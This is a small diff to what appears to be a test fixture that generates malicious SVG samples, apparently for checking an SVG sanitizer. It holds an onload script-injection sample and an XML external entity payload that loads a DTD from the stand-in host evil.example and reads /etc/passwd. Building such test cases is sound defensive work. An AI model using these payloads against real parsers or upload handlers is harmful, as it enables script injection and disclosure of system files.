@@ -97,6 +97,6 @@ def with_script() -> dict[str, bytes]:
         "onload.svg": svg(element(words), declared=' onload="window.bad = 1" xmlns:x="http://evil.example/"'),
         "entity.svg": svg(
             element(GOOD),
-            head='<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+            head='<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd" [<!ENTITY x SYSTEM "file:/etc/passwd">]>',
         ),
     }
